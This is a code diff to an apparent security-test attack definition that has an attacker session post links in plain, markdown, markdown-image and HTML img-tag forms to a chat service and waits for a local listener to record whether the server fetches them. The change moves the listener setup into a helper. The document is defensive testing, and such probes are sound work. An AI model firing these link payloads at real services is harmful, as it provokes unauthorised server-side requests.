@@ -4,6 +4,7 @@ import { resisted, vulnerable } from '../../judge.ts'
 import { control, openWitness } from '../../kit/attempt.ts'
 import { attackerSession } from '../../kit/event-steps.ts'
 import { openListener } from '../../kit/listener.ts'
+import { listenLines } from '../../kit/listener-script.ts'
 import { someText, type Written } from '../../reproduction/steps.ts'
 
 export default defineAttack({
@@ -57,20 +58,18 @@ export default defineAttack({
 
 function script({ target, attacker }: BaseContext): Written {
   const { chat, namespace, listener, ownProfile } = target.profile
-  return ({ value, door }) => {
+  return (say) => {
+    const { value, door } = say
     const emits = (event: string, args: unknown) =>
       `emit(c0, ${value(namespace)}, ${value(event)}, ${value(args)}, true)`
     const profile = ownProfile && target.fill(ownProfile.update.args, { text: someText })
-    return `const { createServer } = await import('node:http')
-const visits = []
-const listener = createServer((request, response) => response.end(String(visits.push(request.url))))
-await new Promise((resolve) => listener.listen(${listener.port ?? 0}, ${value(listener.bind)}, resolve))
-const link = (${value(listener.publicUrl)} ?? 'http://' + ${value(listener.bind)} + ':' + listener.address().port) + '/from-a-message'
+    return `${listenLines(say, listener, "'<title>gatecrash</title>'")}
+const link = here + '/from-a-message'
 const c0 = await connect(${door({ token: attacker.token })}, true)
 for (const text of [link, \`look: \${link}?x=1\`, \`[a](\${link})\`, \`![a](\${link}.png)\`, \`<img src="\${link}.png">\`]) {
   ${emits(chat.send.event, target.messageArgs(someText))}
 ${ownProfile ? `  ${emits(ownProfile.update.event, profile)}\n` : ''}  await sleep(120)
 }
-await until(() => visits.length > 0, 'the server does not go to the link')`
+await until(() => calls.length > 0, 'the server does not go to the link')`
   }
 }
